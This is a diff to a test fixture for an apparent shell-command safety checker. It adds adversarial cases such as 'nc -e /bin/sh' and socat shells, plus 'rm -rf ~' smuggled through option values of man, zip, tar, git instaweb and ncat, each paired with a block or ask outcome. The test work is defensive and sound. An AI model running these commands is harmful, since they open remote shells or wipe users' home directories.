@@ -377,6 +377,17 @@ ADVERSARIAL: list[tuple[str, str, str]] = [
     ("ionice --cla 3 rm -rf ~", "ask", "unparsable_command"),
     ("timeout --frob 5 rm -rf ~", "ask", "unparsable_command"),
     ("env - rm -rf ~", "block", "deny_list:rm_rf"),
+    # Programs wired to a socket, commands as option values, command languages on stdin.
+    ("nc -e /bin/sh h 4444", "ask", "inline_code"),
+    ("ncat --sh-exec 'rm -rf ~' h 1", "block", "deny_list:rm_rf"),
+    ("socat TCP:h:1 EXEC:'rm -rf ~'", "block", "deny_list:rm_rf"),
+    ("socat TCP-LISTEN:80 SYSTEM:id,pty", "ask", "inline_code"),
+    ("man -P 'rm -rf ~' ls", "block", "deny_list:rm_rf"),
+    ("zip -T -TT 'rm -rf ~' a.zip f", "block", "deny_list:rm_rf"),
+    ("ed f <<< '!id'", "ask", "inline_code"),
+    ("echo '!id' | dc", "ask", "inline_code"),
+    ("tar --rmt-command='rm -rf ~' -cf h:/x src", "block", "deny_list:rm_rf"),
+    ("git instaweb --httpd='rm -rf ~'", "block", "deny_list:rm_rf"),
     ("echo {,} && rm --recu -f ~", "block", "deny_list:rm_rf"),
 ]
 """(line, outcome in mode default, a label that must be among the reasons)."""
@@ -512,6 +523,9 @@ BENIGN: list[str] = [
     "git reset --hard origin/main",
     "timeout --preserve-status 5 pytest",
     "[[ ${#arr[@]} -gt 0 ]]",
+    "man ls",
+    "zip -r out.zip src",
+    "nc -z h 80",
     "(( ${#x} > 3 ))",
     "env -i PATH=/usr/bin make",
     "env --unset=FOO make",
